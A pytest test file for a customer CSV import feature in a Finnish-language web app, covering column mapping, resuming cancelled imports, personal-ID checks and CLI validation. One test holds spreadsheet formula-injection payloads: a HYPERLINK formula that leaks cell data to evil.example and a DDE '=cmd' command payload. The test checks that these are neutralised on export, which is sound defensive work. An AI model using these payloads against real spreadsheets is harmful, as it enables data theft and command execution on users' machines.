"""The import's guards around the rows (issue 15): the mapping a run keeps by column, a
field chosen once, a refused mapping form sent back as it was, each section's kept file its
own, a cancelled import taken up again, no henkilötunnus in a header or a file's name, the
refused rows' file written as the exports are, the command line's choices and informing
checked, and a file whose run stored nothing imported again."""

import csv
import io
import re

from models import Customer, ImportMapping, ImportRefusal, ImportRun
from tests.conftest import csrf_token, new_session, typed_now
from tests.test_imports import (
    HEADER,
    csv_bytes,
    dry_run_page,
    good_row,
    run_import,
    upload,
    write_csv,
)

PEOPLE = ["staff_t", "staff_b"]


def commit_all(client, token, dry_run_id):
    answer = client.post(f"/imports/runs/{dry_run_id}/commit", data={"csrf_token": token},
                         follow_redirects=True)
    commit = ImportRun.select().where(ImportRun.kind == "commit").order_by(
        ImportRun.id.desc()).get()
    for _step in range(20):
        if ImportRun.get_by_id(commit.id).state != "running":
            break
        client.post(f"/imports/runs/{commit.id}/step", data={"csrf_token": token})
    return answer, ImportRun.get_by_id(commit.id)


def test_two_columns_of_one_header_or_none_keep_their_own_fields(app, client, auth, people):
    token = auth.login_as("staff_t", token_from="/imports/")
    for header, columns in (
            (["Sukunimi", "Etunimet", "Puhelin", "Puhelin"], {2: "phone", 3: "mobile"}),
            (["Sukunimi", "Etunimet", "", ""], {2: "phone", 3: "mobile"})):
        Customer.delete().execute()
        rows = [header, ["Virtanen", "Matti", "09 123 4567", "040 380 6251"]]
        report = dry_run_page(client, token, upload(client, token, csv_bytes(rows)),
                              columns={0: "last_name", 1: "first_name", **columns})
        _answer, commit = commit_all(client, token, int(report.rsplit("/", 1)[1]))
        assert commit.state == "finished", header
        stored = Customer.get()
        assert (stored.phone, stored.mobile) == ("+35891234567", "+358403806251"), header


def test_a_field_is_chosen_for_one_column_only(app, client, auth, people):
    token = auth.login_as("staff_t", language="en", token_from="/imports/")
    header = ["Sukunimi", "Etunimet", "Email A", "Email B"]
    location = upload(client, token, csv_bytes(
        [header, ["Virtanen", "Matti", "good@example.com", "not-an-email"]]))
    answer = client.post(location, data={
        "csrf_token": token, "name": "asiakkaat.csv", "column-0": "last_name",
        "column-1": "first_name", "column-2": "email", "column-3": "email",
        "informed_how": "in_person", "informed_at": typed_now(minutes_ago=1)})
    page = answer.get_data(as_text=True)
    assert answer.status_code == 200 and ImportRun.select().count() == 0
    assert "is chosen for two columns, Email A and Email B" in page
    assert page.count('<option value="email" selected>') == 2  # as it was sent


def test_a_refused_form_comes_back_as_it_was_sent(app, client, auth, people):
    token = auth.login_as("staff_t", language="en", token_from="/imports/")
    location = upload(client, token, csv_bytes([["Sarake A", "Sarake B", "Sarake C"],
                                                ["Virtanen", "Matti", "m@example.com"]]),
                      name="asiakkaat.csv")
    form = {"csrf_token": token, "name": "asiakkaat.csv", "column-0": "last_name",
            "column-1": "first_name", "column-2": "email", "informed_how": "email",
            "informed_at": "1.12.2026 10.00", "duplicates-email": "update_chosen",
            "overwrite": "first_name", "save_as": "x" * 101}
    page = client.post(location, data=form).get_data(as_text=True)
    assert "at most 100 characters" in page and ImportMapping.select().count() == 0
    for kept in ('name="name" value="asiakkaat.csv"', 'value="1.12.2026 10.00"',
                 '<option value="email" selected>', '<option value="update_chosen" selected>',
                 'value="first_name" checked', 'value="' + "x" * 101 + '"'):
        assert kept in page, kept
    # Updating the chosen fields with none chosen is refused the same way.
    page = client.post(location, data={**form, "save_as": "", "overwrite": ""}
                       ).get_data(as_text=True)
    assert "no field is chosen" in page and ImportRun.select().count() == 0
    # Put right, the dry run goes, and its run and customers carry the file's name.
    report = client.post(location, data={**form, "save_as": "Vanha"})
    assert report.status_code == 302 and ImportRun.get().file_name == "asiakkaat.csv"


def test_each_section_keeps_its_own_file(app, people):
    rows = [HEADER, good_row(1), good_row(2)]
    tourism, business = new_session(app, "staff_t"), new_session(app, "staff_b")
    t_token = csrf_token(tourism.get("/imports/").get_data(as_text=True))
    b_token = csrf_token(business.get("/imports/").get_data(as_text=True))
    b_report = dry_run_page(business, b_token,
                            upload(business, b_token, csv_bytes(rows), section="business"))
    t_report = dry_run_page(tourism, t_token, upload(tourism, t_token, csv_bytes(rows)))
    _answer, t_commit = commit_all(tourism, t_token, int(t_report.rsplit("/", 1)[1]))
    assert t_commit.state == "finished" and t_commit.section.code == "tourism"
    # The other section's file is still there: its import goes to the end.
    _answer, b_commit = commit_all(business, b_token, int(b_report.rsplit("/", 1)[1]))
    assert (b_commit.section.code, b_commit.state, b_commit.accepted) == ("business",
                                                                          "finished", 2)


def test_a_cancelled_import_goes_on_when_its_file_is_imported_again(app, client, auth,
                                                                     people):
    app.config.update(IMPORT_STEP_SECONDS=0, IMPORT_STEP_BATCH_SIZE=2)
    token = auth.login_as("staff_t", language="en", token_from="/imports/")
    # Names unlike each other: no row is a likely duplicate of one stored before it.
    names = [("Virtanen", "Matti"), ("Korhonen", "Liisa"), ("Nieminen", "Pekka"),
             ("Mäkinen", "Aino"), ("Hämäläinen", "Juha"), ("Laine", "Sari"),
             ("Heikkinen", "Ville")]
    rows = [HEADER] + [[last, first, *good_row(i)[2:]]
                       for i, (last, first) in enumerate(names, start=1)]
    report = dry_run_page(client, token, upload(client, token, csv_bytes(rows)))
    client.post(f"/imports/runs/{report.rsplit('/', 1)[1]}/commit", data={"csrf_token": token})
    commit = ImportRun.get(ImportRun.kind == "commit")
    client.post(f"/imports/runs/{commit.id}/step", data={"csrf_token": token})
    client.post(f"/imports/runs/{commit.id}/cancel", data={"csrf_token": token})
    assert Customer.select().count() == 2
    report = dry_run_page(client, token, upload(client, token, csv_bytes(rows)))
    answer, again = commit_all(client, token, int(report.rsplit("/", 1)[1]))
    assert "was cancelled before: it goes on after row 3" in answer.get_data(as_text=True)
    assert (again.id, again.state, again.accepted) == (commit.id, "finished", 7)
    assert Customer.select().count() == 7


def test_no_henkilotunnus_in_a_header_or_a_files_name(app, client, auth, people, runner,
                                                      tmp_path):
    token = auth.login_as("staff_t", language="en", token_from="/imports/")
    headless = csv_bytes([["Virtanen", "Matti", "131052-308T"], ["Nieminen", "Liisa", "x"]])
    # The page in the user's language (English here), the command line in Finnish.
    for content, name, message, said in (
            (headless, "asiakkaat.csv", "The first row of the file holds a henkilötunnus",
             "Tiedoston ensimmäisellä rivillä on henkilötunnus"),
            (csv_bytes([HEADER, good_row(1)]), "asiakas 131052-308T.csv",
             "name holds a henkilötunnus", "Tiedoston nimessä on henkilötunnus")):
        answer = client.post("/imports/upload", data={
            "file": (io.BytesIO(content), name), "section": "tourism", "csrf_token": token},
            content_type="multipart/form-data", follow_redirects=True)
        page = answer.get_data(as_text=True)
        assert message in page and "131052-308T" not in page
        result = runner.invoke(args=["import", "customers", str(write_csv(
            tmp_path / name, list(csv.reader(io.StringIO(content.decode()), delimiter=";")))),
            "--section", "tourism", "--dry-run"])
        assert result.exit_code == 1 and said in result.output
    assert ImportRun.select().count() == 0


def test_a_header_with_a_control_character_is_refused(app, client, auth, people, runner,
                                                      tmp_path):
    token = auth.login_as("staff_t", language="en", token_from="/imports/")
    header = ["Sukunimi\x1b[31m", *HEADER[1:]]
    page = client.post("/imports/upload", data={
        "file": (io.BytesIO(csv_bytes([header, good_row(1)])), "a.csv"), "section": "tourism",
        "csrf_token": token}, content_type="multipart/form-data", follow_redirects=True
    ).get_data(as_text=True)
    assert "The first row of the file holds a control character" in page
    result = runner.invoke(args=["import", "customers", str(write_csv(
        tmp_path / "a.csv", [header, good_row(1)])), "--section", "tourism", "--dry-run"])
    assert result.exit_code == 1 and "ohjausmerkki" in result.output
    assert ImportRun.select().count() == 0


def test_a_files_name_keeps_no_character_a_page_cannot_carry(app, client, auth, people):
    token = auth.login_as("staff_t", token_from="/imports/")
    location = upload(client, token, csv_bytes([HEADER, good_row(1)]),
                      name="asiakkaat\x07\x1b.csv")
    page = client.get(location)
    assert page.status_code == 200 and 'value="asiakkaat .csv"' in page.get_data(as_text=True)


def test_the_refused_rows_file_runs_no_formula(app, client, auth, people):
    token = auth.login_as("staff_t", token_from="/imports/")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"klikkaa")'
    rows = [HEADER + ["=cmd|' /C calc'!A0"],
            ["Virtanen", "'" + formula, "bad-email", "", "", "", "", "x"]]
    dry_run_page(client, token, upload(client, token, csv_bytes(rows)))
    text = client.get(f"/imports/runs/{ImportRun.get().id}/refused.csv").get_data(as_text=True)
    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert lines[0][-2:] == ["'=cmd|' /C calc'!A0", "error"]
    assert lines[1][:2] == ["Virtanen", "'" + formula]  # as the file had it
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)


def test_the_command_line_refuses_a_reason_or_a_choice_it_cannot_follow(app, runner,
                                                                         tmp_path):
    run_import(runner, write_csv(tmp_path / "a.csv", [HEADER, good_row(1)]))
    row = good_row(1)
    row[1] = "Uusi"
    path = write_csv(tmp_path / "b.csv", [HEADER, row])
    base = ["import", "customers", str(path), "--section", "tourism", "--informed-how",
            "in_person", "--informed-at", typed_now(minutes_ago=1)]
    misspelt = runner.invoke(args=[*base, "--duplicates", "emial=create"])
    assert misspelt.exit_code == 2 and "emial=create" in misspelt.output
    for row in ("²=skip", "١=skip"):  # a digit, but no ASCII one
        result = runner.invoke(args=[*base, "--row", row])
        assert result.exit_code == 2 and row in result.output, row
    for choice in (["--duplicates", "update_chosen"], ["--row", "2=update_chosen"]):
        result = runner.invoke(args=[*base, *choice])
        assert result.exit_code == 1 and "yhtään kenttää ei ole valittu" in result.output, \
            choice
    assert ImportRun.select().count() == 1 and Customer.get().first_name == "Öljy 1"


def test_the_command_line_checks_the_files_informing_before_any_row(app, runner, tmp_path):
    path = write_csv(tmp_path / "a.csv", [HEADER, good_row(1)])
    base = ["import", "customers", str(path), "--section", "tourism"]
    misspelt = runner.invoke(args=[*base, "--informed-how", "in_persn", "--informed-at",
                                   typed_now(minutes_ago=1)])
    assert misspelt.exit_code == 2 and "in_persn" in misspelt.output
    for at in ("1.12.", "31.02.2026 10:00", "29.03.2026 03:30"):  # none, nor in Helsinki
        wrong = runner.invoke(args=[*base, "--informed-how", "in_person", "--informed-at", at])
        assert wrong.exit_code == 2 and at in wrong.output, wrong.output
    assert ImportRun.select().count() == 0 and Customer.select().count() == 0


def test_a_file_whose_run_stored_nothing_can_be_imported_again(app, runner, tmp_path):
    """Every row refused (the informing time in the future, say): the file is not kept as
    imported, so the mended command imports it."""
    path = write_csv(tmp_path / "a.csv", [HEADER, good_row(1), good_row(2)])
    base = ["import", "customers", str(path), "--section", "tourism", "--informed-how",
            "in_person", "--informed-at"]
    refused = runner.invoke(args=[*base, "31.12.2099 10:00"])
    assert refused.exit_code == 0 and "0 accepted, 2 refused" in refused.output
    stored = runner.invoke(args=[*base, typed_now(minutes_ago=1)])
    assert stored.exit_code == 0 and "2 accepted, 0 refused" in stored.output, stored.output
    assert Customer.select().count() == 2
    again = runner.invoke(args=[*base, typed_now(minutes_ago=1)])
    assert "2 accepted" in again.output and Customer.select().count() == 2  # kept now
    assert ImportRun.select().where(ImportRun.kind == "commit").count() == 2


def test_a_file_changed_during_the_import_is_imported_as_it_was(app, runner, tmp_path,
                                                                 monkeypatch):
    """The command reads a copy: the operator's file cut (or written over) while the rows
    are stored changes nothing of the run."""
    from cli import imports as import_command

    path = write_csv(tmp_path / "a.csv", [HEADER] + [good_row(n) for n in range(1, 7)])
    steps = import_command.imports.commit_steps

    def cut_then_store(*args, **kwargs):
        write_csv(path, [HEADER, good_row(1)])
        return steps(*args, **kwargs)

    monkeypatch.setattr(import_command.imports, "commit_steps", cut_then_store)
    run = run_import(runner, path)
    assert run.total == 6 and run.accepted == 6 and Customer.select().count() == 6


def test_the_command_line_names_the_columns_it_does_not_import(app, runner, tmp_path):
    path = write_csv(tmp_path / "a.csv", [HEADER + ["Lisatieto"], good_row(1) + ["x"]])
    result = runner.invoke(args=["import", "customers", str(path), "--section", "tourism",
                                 "--informed-how", "in_person", "--informed-at",
                                 typed_now(minutes_ago=1), "--dry-run"])
    assert result.exit_code == 0, result.output
    assert "Sarakkeita ei tuoda (niihin ei ole valittu kenttää): Lisatieto" in result.output


def test_an_interrupted_command_leaves_no_dry_run_open_and_says_how_to_go_on(
        app, runner, tmp_path, monkeypatch):
    from cli import imports as import_command
    from services.imports import runs

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    path = write_csv(tmp_path / "a.csv", [HEADER, good_row(1)])
    base = ["import", "customers", str(path), "--section", "tourism", "--informed-how",
            "in_person", "--informed-at", typed_now(minutes_ago=1)]
    monkeypatch.setattr(runs, "check_steps", interrupted)
    checked = runner.invoke(args=[*base, "--dry-run"])
    assert checked.exit_code == 1 and "Keskeytetty" in checked.output, checked.output
    assert [(run.kind, run.state) for run in ImportRun.select()] == [("dry_run", "cancelled")]
    monkeypatch.setattr(import_command.imports, "commit_steps", interrupted)
    stored = runner.invoke(args=base)
    assert stored.exit_code == 1 and "samalla komennolla" in stored.output, stored.output
    monkeypatch.undo()
    assert run_import(runner, path).accepted == 1  # the same command goes on


def _flashes(html):
    return [re.sub(r"\s+", " ", text) for text in
            re.findall(r'class="alert[^"]*"[^>]*data-flash>(.*?)</div>', html, re.S)]


def test_a_file_of_too_many_columns_is_refused_at_upload(app, client, auth, people):
    """A 2 MB CSV of 1 000 000 columns went on to the mapping page, a choice for each
    column (20 000 columns: a page of 25 MB in 7 s)."""
    token = auth.login_as("staff_t", token_from="/imports/")
    content = (";".join(["Nimi"] * 100_000) + "\nKala Oy\n").encode()
    answer = client.post("/imports/upload", data={
        "file": (io.BytesIO(content), "leveä.csv"), "section": "tourism",
        "csrf_token": token}, content_type="multipart/form-data", follow_redirects=True)
    said = " ".join(_flashes(answer.get_data(as_text=True)))
    assert "100 000 saraketta" in said or "100000 saraketta" in said, said
    assert ImportRun.select().count() == 0


def test_a_very_long_cell_names_its_row(app, client, auth, people):
    """A cell over the csv module's 131 072 characters refused the file as one that "could
    not be read as a CSV or XLSX file: save it as CSV (UTF-8)", which it was."""
    token = auth.login_as("staff_t", language="en", token_from="/imports/")
    content = ("Nimi;Sähköposti\nKala Oy;a@example.fi\n" + "x" * 200_000
               + ";b@example.fi\n").encode()
    answer = client.post(upload(client, token, content), data={
        "csrf_token": token, "name": "a.csv", "column-0": "name", "column-1": "email",
        "informed_how": "in_person", "informed_at": typed_now(minutes_ago=1)})
    said = " ".join(_flashes(answer.get_data(as_text=True)))
    assert "Row 3 has a cell of more than 131 072 characters" in said, said


def test_a_date_not_understood_says_how_to_write_it(app, client, auth, people):
    """A birth date written 1980/02/01 got WTForms' bare "not a valid date value"; one
    written as Finns write it is read."""
    token = auth.login_as("staff_t", token_from="/imports/")
    content = ("Sukunimi;Etunimet;Syntymäaika\nVirtanen;Matti;1980/02/01\n"
               "Laine;Sari;1.2.1980\n").encode("utf-8")
    report = dry_run_page(client, token, upload(client, token, content),
                          columns={0: "last_name", 1: "first_name", 2: "birth_date"})
    run_id = int(report.rsplit("/", 1)[1])
    messages = [r.message for r in ImportRefusal.select().where(ImportRefusal.run == run_id)]
    assert messages == ["Kirjoita päivämäärä muodossa päivä.kuukausi.vuosi, esim. 1.2.1980."]


def test_cancelling_one_import_leaves_the_file_another_of_it_reads(app, client, auth, people):
    """The same file uploaded twice (two tabs, or two colleagues): cancelling one dry run
    removed the kept file the other was reading, whose next step failed."""
    app.config.update(IMPORT_STEP_SECONDS=0, IMPORT_STEP_BATCH_SIZE=2)
    token = auth.login_as("staff_t", token_from="/imports/")
    content = csv_bytes([HEADER] + [good_row(i) for i in range(1, 8)])
    runs = []
    for _ in range(2):
        answer = client.post(upload(client, token, content), data={
            "csrf_token": token, "name": "a.csv", "informed_how": "in_person",
            "informed_at": typed_now(minutes_ago=1), "column-0": "last_name",
            "column-1": "first_name", "column-2": "email"})
        assert answer.status_code == 302
        runs.append(int(answer.location.rsplit("/", 1)[1]))
    client.post(f"/imports/runs/{runs[0]}/step", data={"csrf_token": token})
    client.post(f"/imports/runs/{runs[1]}/cancel", data={"csrf_token": token})
    assert ImportRun.get_by_id(runs[1]).state == "cancelled"
    step = client.post(f"/imports/runs/{runs[0]}/step", data={"csrf_token": token},
                       headers={"Accept": "application/json"})
    assert step.status_code == 200, step.get_json().get("error")


def test_a_saved_mapping_keeps_two_columns_of_one_header(app, client, auth, people):
    """Saved as {header: field}, a mapping of two "Puhelin" columns (phone, mobile) kept
    one: used again, the landline column went to the mobile field, the mobile to nothing."""
    token = auth.login_as("staff_t", token_from="/imports/")
    rows = [["Sukunimi", "Etunimet", "Puhelin", "Puhelin"],
            ["Virtanen", "Matti", "09 123 4567", "040 380 6251"]]
    dry_run_page(client, token, upload(client, token, csv_bytes(rows)),
                 columns={0: "last_name", 1: "first_name", 2: "phone", 3: "mobile"},
                 save_as="Puhelimet")
    again = upload(client, token, csv_bytes(rows + [["Laine", "Sari", "", ""]]))
    html = client.get(again + "&mapping=Puhelimet").get_data(as_text=True)
    chosen = dict(re.findall(
        r'name="column-(\d+)".*?(?:<option value="(\w+)" selected|</select>)', html, re.S))
    assert (chosen["2"], chosen["3"]) == ("phone", "mobile"), chosen
    # A mapping saved before (one field a header) still maps the first column of it.
    ImportMapping.update(columns='{"Puhelin": "phone", "Sukunimi": "last_name"}').execute()
    html = client.get(again + "&mapping=Puhelimet").get_data(as_text=True)
    chosen = dict(re.findall(
        r'name="column-(\d+)".*?(?:<option value="(\w+)" selected|</select>)', html, re.S))
    assert chosen["2"] == "phone" and chosen.get("3", "") == ""
